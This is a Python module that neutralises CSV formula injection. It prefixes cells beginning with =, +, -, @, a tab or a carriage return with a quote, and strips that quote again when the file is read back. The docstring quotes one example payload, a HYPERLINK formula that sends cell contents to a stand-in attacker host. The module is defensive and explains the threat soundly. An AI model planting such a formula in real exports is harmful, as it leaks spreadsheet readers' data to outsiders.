"""CSV files written safe for spreadsheets, and read back without loss.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before looking) is a formula to Excel, LibreOffice and Google Sheets:
``=HYPERLINK("https://evil.example/?"&A1, "Details")`` in a company name sends a reader's
data elsewhere when clicked. Every CSV file regiokarte writes (open data, exports, participant
lists, statistics) therefore goes through ``csv_writer``, which puts a single quote in front of
such a cell, as the OWASP CSV Injection guidance recommends; spreadsheets show the quote-
prefixed cell as text. A line break inside a cell is always quoted, whatever the line
terminator, so no cell can start a row of its own.

The prefix is reversible, so an export imports again without loss: the writer adds one quote
to every cell that matches ``'*[=+\\-@\\t\\r]`` (any number of quotes, then a formula
character), and ``restore_cell`` (used by ``csv_reader``, which every importer reads CSV with)
removes exactly one quote from a cell that matches ``'+[=+\\-@\\t\\r]``. A cell that was written
unchanged never matches the second pattern, so nothing else is ever altered. Plain numbers
(``-7.5``, ``+49``) are not formulas and stay as they are.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

__all__ = [
    "CsvReader",
    "CsvWriter",
    "csv_reader",
    "csv_writer",
    "neutralise_cell",
    "restore_cell",
]

_FORMULA = re.compile(r"'*[=+\-@\t\r]")
_NEUTRALISED = re.compile(r"'+[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralise_cell(value: Any) -> str:
    """The text of one cell, with a quote in front if a spreadsheet would take it for a
    formula (``None`` is the empty cell; other values are written with ``str``)."""
    if value is None:
        return ""
    text = value if isinstance(value, str) else str(value)
    if _FORMULA.match(text) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def restore_cell(text: str) -> str:
    """The value a cell held before ``neutralise_cell``: one quote less where it added one."""
    if _NEUTRALISED.match(text):
        return text[1:]
    return text


class CsvWriter:
    """A ``csv.writer`` whose every cell goes through ``neutralise_cell``."""

    def __init__(self, stream: _Writable, **fmtparams: Any) -> None:
        self._writer = csv.writer(stream, **fmtparams)
        # csv quotes a field holding a character of the line terminator only: with "\n" a
        # lone "\r" would go out unquoted, and spreadsheets start a new row (and a new cell,
        # unguarded) there. Such rows are written with every field quoted.
        self._quoted = csv.writer(stream, **{**fmtparams, "quoting": csv.QUOTE_ALL})
        terminator = self._writer.dialect.lineterminator
        self._breaks = tuple(c for c in "\r\n" if c not in terminator)

    def writerow(self, row: Iterable[Any]) -> Any:
        """Write one row (the header too: column names go through the same check)."""
        cells = [neutralise_cell(value) for value in row]
        if self._breaks and any(b in cell for cell in cells for b in self._breaks):
            return self._quoted.writerow(cells)
        return self._writer.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write every row of ``rows``."""
        for row in rows:
            self.writerow(row)


def csv_writer(stream: _Writable, **fmtparams: Any) -> CsvWriter:
    """A CSV writer on ``stream`` (options as for ``csv.writer``: ``delimiter``,
    ``lineterminator`` ...) that neutralises formulas; use it for every CSV file written."""
    return CsvWriter(stream, **fmtparams)


def csv_reader(lines: Iterable[str], dialect: Any = "excel", **fmtparams: Any) -> CsvReader:
    """Rows of a CSV text (dialect and options as for ``csv.reader``) with ``restore_cell``
    applied, so a file ``csv_writer`` wrote reads back as it was; it keeps ``line_num``."""
    return CsvReader(csv.reader(lines, dialect, **fmtparams))


class CsvReader:
    """A ``csv.reader`` whose cells go through ``restore_cell``; keeps ``line_num``."""

    def __init__(self, reader: Any) -> None:
        self._reader = reader

    def __iter__(self) -> CsvReader:
        return self

    def __next__(self) -> list[str]:
        return [restore_cell(cell) for cell in next(self._reader)]

    @property
    def line_num(self) -> int:
        return int(self._reader.line_num)

    @property
    def dialect(self) -> Any:
        return self._reader.dialect
